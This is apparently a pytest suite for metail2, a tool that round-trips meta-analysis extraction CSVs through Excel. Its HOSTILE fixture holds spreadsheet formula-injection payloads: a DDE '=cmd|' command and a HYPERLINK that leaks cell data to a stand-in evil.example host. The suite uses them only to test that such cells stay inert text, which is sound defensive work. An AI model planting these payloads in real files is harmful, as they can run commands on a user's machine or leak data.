"""Excel round trip: CSV -> xlsx -> CSV is lossless; an edit changes only its cells."""
from __future__ import annotations

import pytest
from openpyxl import load_workbook

from metail2.cli import main

from tests.conftest import ROOT

SHEETS = [ROOT / "extraction" / "il2_crc_response.csv", *sorted((ROOT / "tests" / "validation" / "metafor").glob("*.csv"))]


@pytest.mark.parametrize("src", SHEETS, ids=[p.name for p in SHEETS])
def test_csv_xlsx_csv_is_identical(src, tmp_path, capsys):
    xlsx, back = tmp_path / "s.xlsx", tmp_path / "back.csv"
    assert main(["sheet", "export", str(src), "--xlsx", str(xlsx)]) == 0
    assert main(["sheet", "import", str(xlsx), "--csv", str(back)]) == 0
    assert back.read_bytes() == src.read_bytes()


def test_workbook_is_typed_styled_validated_and_has_the_codebook(tmp_path, capsys):
    xlsx = tmp_path / "s.xlsx"
    main(["sheet", "export", str(SHEETS[0]), "--xlsx", str(xlsx)])
    wb = load_workbook(xlsx)
    ws = wb["data"]
    assert ws["A1"].value == "study_id" and ws["A1"].font.bold and ws.freeze_panes == "B2"
    header = [c.value for c in ws[1]]
    assert ws.cell(2, header.index("events") + 1).value == 19  # a number, not text
    assert ws.cell(2, header.index("reported_percent") + 1).value == 76
    assert ws.cell(2, header.index("author") + 1).value == "Okuno K, Yasutomi M"
    lists = [dv.formula1 for dv in ws.data_validations.dataValidation]
    assert '"locoregional,systemic,not reported"' in lists
    assert wb["codebook"]["A1"].value == "column" and wb["_metail2"].sheet_state == "hidden"


def test_an_edit_in_excel_changes_only_that_row(tmp_path, capsys):
    src = SHEETS[0]
    xlsx, back = tmp_path / "s.xlsx", tmp_path / "back.csv"
    main(["sheet", "export", str(src), "--xlsx", str(xlsx)])
    wb = load_workbook(xlsx)
    ws = wb["data"]
    header = [c.value for c in ws[1]]
    ws.cell(3, header.index("events") + 1).value = 7
    ws.cell(3, header.index("total") + 1).value = 40
    wb.save(xlsx)
    main(["sheet", "import", str(xlsx), "--csv", str(back)])
    old, new = src.read_bytes().split(b"\r\n"), back.read_bytes().split(b"\r\n")
    assert [i for i, (a, b) in enumerate(zip(old, new)) if a != b] == [2]
    assert b',"randomized, 3 arms",' in new[2] and b",7,40,," in new[2]


def test_import_refuses_to_overwrite(tmp_path, capsys):
    xlsx = tmp_path / "s.xlsx"
    main(["sheet", "export", str(SHEETS[0]), "--xlsx", str(xlsx)])
    target = tmp_path / "exists.csv"
    target.write_text("keep me")
    assert main(["sheet", "import", str(xlsx), "--csv", str(target)]) == 2
    assert target.read_text() == "keep me"


# ------------------------------------------------------------------ the CSV's hash: import never discards CSV edits

import hashlib  # noqa: E402

IL2 = SHEETS[0]


def _exported(tmp_path, src=IL2, name="s.csv"):
    csv, xlsx = tmp_path / name, tmp_path / "s.xlsx"
    csv.write_bytes(src.read_bytes())
    assert main(["sheet", "export", str(csv), "--xlsx", str(xlsx)]) == 0
    return csv, xlsx


def _edit(xlsx, row, column, value):
    wb = load_workbook(xlsx)
    ws = wb["data"]
    header = [c.value for c in ws[1]]
    ws.cell(row, header.index(column) + 1).value = value
    wb.save(xlsx)


def test_the_workbook_records_the_hash_of_its_csv(tmp_path, capsys):
    csv, xlsx = _exported(tmp_path)
    hidden = load_workbook(xlsx)["_metail2"]
    assert hidden["D1"].value == "sha256:" + hashlib.sha256(csv.read_bytes()).hexdigest()
    assert hidden["E1"].value == f"source:{csv}"


def test_import_over_the_unchanged_csv_needs_no_flag(tmp_path, capsys):
    csv, xlsx = _exported(tmp_path)
    _edit(xlsx, 3, "events", 7)
    assert main(["sheet", "import", str(xlsx), "--csv", str(csv)]) == 0
    assert "14 rows, 1 edited in the workbook" in capsys.readouterr().out
    assert csv.read_bytes().split(b"\r\n")[2].startswith(b"Okuno 1999,") and b",7,," in csv.read_bytes()


def test_import_refuses_a_csv_edited_since_the_export_naming_the_rows(tmp_path, capsys):
    csv, xlsx = _exported(tmp_path)
    _edit(xlsx, 2, "events", 18)  # the reviewer's edit in Excel ...
    lines = csv.read_bytes().split(b"\r\n")  # ... and meanwhile, edits to the CSV
    lines[2] = lines[2].replace(b"Okuno K et al.", b"Okuno K and Tanaka T")
    del lines[4]  # the row on line 5
    lines.insert(-1, b"Late 2003,,2003,,,,systemic,,,,,,,3,10,,stated,,")
    edited = b"\r\n".join(lines)
    csv.write_bytes(edited)
    assert main(["sheet", "import", str(xlsx), "--csv", str(csv)]) == 2
    err = capsys.readouterr().err
    assert f"{csv}:3: Okuno 1999: changed since the export (author)" in err
    assert f"{csv}: Yang (Eur J Cancer): deleted since the export (was line 5)" in err
    assert f"{csv}:15: Late 2003: added since the export" in err
    assert f"changed since {xlsx} was exported from it" in err and "--force" in err
    assert csv.read_bytes() == edited  # nothing lost
    # --force is for exactly this case: the workbook wins
    assert main(["sheet", "import", str(xlsx), "--csv", str(csv), "--force"]) == 0
    assert b"Late 2003" not in csv.read_bytes() and b"Okuno K et al." in csv.read_bytes()


def test_import_to_a_new_csv_needs_no_flag(tmp_path, capsys):
    _, xlsx = _exported(tmp_path)
    new = tmp_path / "new.csv"
    assert main(["sheet", "import", str(xlsx), "--csv", str(new)]) == 0
    assert new.read_bytes() == IL2.read_bytes()


def test_a_workbook_that_does_not_record_its_csv_needs_force_over_an_existing_file(tmp_path, capsys):
    csv, xlsx = _exported(tmp_path)
    wb = load_workbook(xlsx)
    wb["_metail2"]["D1"].value = None  # as an older metail2 wrote it
    wb.save(xlsx)
    assert main(["sheet", "import", str(xlsx), "--csv", str(csv)]) == 2
    assert "older metail2 that did not record the CSV's hash" in capsys.readouterr().err
    assert main(["sheet", "import", str(xlsx), "--csv", str(csv), "--force"]) == 0
    assert csv.read_bytes() == IL2.read_bytes()


def test_a_damaged_hidden_worksheet_is_said_not_a_traceback(tmp_path, capsys):
    csv, xlsx = _exported(tmp_path)
    wb = load_workbook(xlsx)
    wb["_metail2"]["B3"].value = "{not json"
    wb.save(xlsx)
    assert main(["sheet", "import", str(xlsx), "--csv", str(csv)]) == 2
    assert "hidden worksheet _metail2 was edited or is damaged" in capsys.readouterr().err
    new = tmp_path / "new.csv"
    assert main(["sheet", "import", str(xlsx), "--csv", str(new)]) == 0
    assert "warning" in capsys.readouterr().err
    assert len(new.read_text().splitlines()) == 15


def test_a_workbook_from_another_csv_is_refused_over_this_one(tmp_path, capsys):
    other = tmp_path / "other.csv"
    other.write_bytes(SHEETS[1].read_bytes())
    _, xlsx = _exported(tmp_path)
    assert main(["sheet", "import", str(xlsx), "--csv", str(other)]) == 2
    assert "the workbook was exported from" in capsys.readouterr().err
    assert other.read_bytes() == SHEETS[1].read_bytes()


# ------------------------------------------------------------------ formula injection and cells a workbook cannot hold

HOSTILE = ('study_id,author,estimate,se,source_note\r\n'
           '"=cmd|\' /C calc\'!A0","=HYPERLINK(""http://evil.example/?""&A1;""click"")",-1.5,0.2,+1+1\r\n'
           '@SUM(A1:A9),-2+3,"-0.25",0.1,"\t=1"\r\n'
           'dde,"\r=1",1e-3,.5,"=1+1\r\nsecond line"\r\n'
           '#N/A,=,0.12345678901234567,12345678901234567,-\r\n')


def test_text_cells_are_string_cells_never_formulas_and_come_back_exactly(tmp_path, capsys):
    src = tmp_path / "hostile.csv"
    src.write_bytes(HOSTILE.encode())
    xlsx, back = tmp_path / "h.xlsx", tmp_path / "back.csv"
    assert main(["sheet", "export", str(src), "--xlsx", str(xlsx)]) == 0
    wb = load_workbook(xlsx)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
    ws = wb["data"]
    assert ws["A2"].value == "=cmd|' /C calc'!A0" and ws["A2"].data_type == "s" and ws["A2"].quotePrefix
    assert ws["B2"].value.startswith("=HYPERLINK(") and ws["A5"].value == "#N/A" and ws["A5"].data_type == "s"
    assert ws["C2"].value == -1.5 and ws["C2"].data_type == "n"  # numbers stay numbers
    assert ws["C3"].value == -0.25 and ws["B3"].value == "-2+3"
    assert ws["C5"].value == "0.12345678901234567"  # beyond Excel's 15 digits: kept as text, not rounded
    assert ws["D5"].value == "12345678901234567"
    assert main(["sheet", "import", str(xlsx), "--csv", str(back)]) == 0
    assert back.read_bytes() == src.read_bytes()
    # an edit elsewhere in a row keeps its hostile cells exactly, as text
    ws["D2"].value = 0.3
    ws["D4"].value = 0.6
    wb.save(xlsx)
    back.unlink()
    assert main(["sheet", "import", str(xlsx), "--csv", str(back)]) == 0
    old, new = src.read_bytes().split(b"\r\n"), back.read_bytes().split(b"\r\n")
    assert new[1] == old[1].replace(b",0.2,", b",0.3,")
    assert new[3] == old[3].replace(b",.5,", b",0.6,") and new[4] == old[4]  # "\r=1" and the CRLF cell kept


def test_cells_a_workbook_cannot_hold_are_refused_with_row_and_column(tmp_path, capsys):
    src = tmp_path / "bad.csv"
    src.write_text("study_id,events,total,source_note\n"
                   "a,1,5,bell\x07here\n"
                   "b,2,5," + "x" * 32_768 + "\n"
                   "c\x1b[0m,3,5,\n", encoding="utf-8")
    xlsx = tmp_path / "bad.xlsx"
    assert main(["sheet", "export", str(src), "--xlsx", str(xlsx)]) == 2
    err = capsys.readouterr().err
    assert f"{src}:2: a: source_note: control character U+0007 at character 5" in err
    assert f"{src}:3: b: source_note: 32,768 characters, more than a spreadsheet cell holds (32,767)" in err
    assert f"{src}:4: c\x1b[0m: study_id: control character U+001B" in err
    assert "Traceback" not in err and not xlsx.exists()
    assert main(["sheet", "check", str(src)]) == 2
    out = capsys.readouterr().out
    assert f"{src}:2: a: source_note: control character U+0007" in out and "32,768 characters" in out


def test_a_long_row_is_kept_exactly_through_the_hidden_worksheet(tmp_path, capsys):
    src = tmp_path / "long.csv"
    src.write_text("study_id,events,total,source_note,citation\n"
                   f"a,1,5,\"{'n, ' * 10_000}\",\"{'c' * 30_000}\"\n", encoding="utf-8")
    xlsx, back = tmp_path / "long.xlsx", tmp_path / "back.csv"
    assert main(["sheet", "export", str(src), "--xlsx", str(xlsx)]) == 0
    hidden = load_workbook(xlsx)["_metail2"]
    assert all(len(str(c.value or "")) <= 32_767 for row in hidden.iter_rows() for c in row)
    assert main(["sheet", "import", str(xlsx), "--csv", str(back)]) == 0
    assert back.read_bytes() == src.read_bytes()


# ------------------------------------------------------------------ what a reviewer may do in Excel

def test_a_formula_without_a_saved_value_or_an_error_value_is_refused_not_blanked(tmp_path, capsys):
    _, xlsx = _exported(tmp_path)
    wb = load_workbook(xlsx)
    ws = wb["data"]
    header = [c.value for c in ws[1]]
    ws.cell(2, header.index("events") + 1).value = "=19*1"  # openpyxl saves no computed value
    ws.cell(3, header.index("route_detail") + 1).value = "#NAME?"
    ws.cell(3, header.index("route_detail") + 1).data_type = "e"
    wb.save(xlsx)
    out = tmp_path / "out.csv"
    assert main(["sheet", "import", str(xlsx), "--csv", str(out)]) == 2
    err = capsys.readouterr().err
    assert f"{xlsx}:2: Okuno 1998 (pilot): events: a formula (=19*1) with no value saved" in err
    assert f"{xlsx}:3: Okuno 1999: route_detail: shows the spreadsheet error #NAME?" in err
    assert not out.exists()


def test_values_under_no_header_and_repeated_names_are_refused(tmp_path, capsys):
    _, xlsx = _exported(tmp_path)
    wb = load_workbook(xlsx)
    ws = wb["data"]
    ws.cell(4, ws.max_column + 2).value = "typed beside the table"
    ws.cell(1, 2).value = "study_id"
    wb.save(xlsx)
    assert main(["sheet", "import", str(xlsx), "--csv", str(tmp_path / "out.csv")]) == 2
    err = capsys.readouterr().err
    assert "column 21 holds values but has no name in the header row" in err
    assert "study_id: column name appears twice in the header" in err


@pytest.mark.parametrize("text", [
    b"study_id,events,total\n", b"study_id,events,total", b"study_id,events,total\na,1,2\n\n\nb,2,3",
    b"\xef\xbb\xbfstudy_id,events,total\r\na,1,2\r\n\r\nb,2,3\r\n", b'study_id,events,total\n"a\r\nb",1,2\n',
    b"study_id,events,total\n\na,1,2\n , \n", b"study_id,events,total\n\na,1,2\n  ",
], ids=["header only", "no final newline", "blank lines", "bom crlf blank", "cr in a cell", "blank record",
        "trailing spaces"])
def test_edge_files_round_trip_byte_for_byte(tmp_path, capsys, text):
    src, xlsx, back = tmp_path / "e.csv", tmp_path / "e.xlsx", tmp_path / "back.csv"
    src.write_bytes(text)
    assert main(["sheet", "export", str(src), "--xlsx", str(xlsx)]) == 0
    assert main(["sheet", "import", str(xlsx), "--csv", str(back)]) == 0
    assert back.read_bytes() == text
    assert main(["sheet", "import", str(xlsx), "--csv", str(src)]) == 0  # over the unchanged CSV: no flag
    assert src.read_bytes() == text
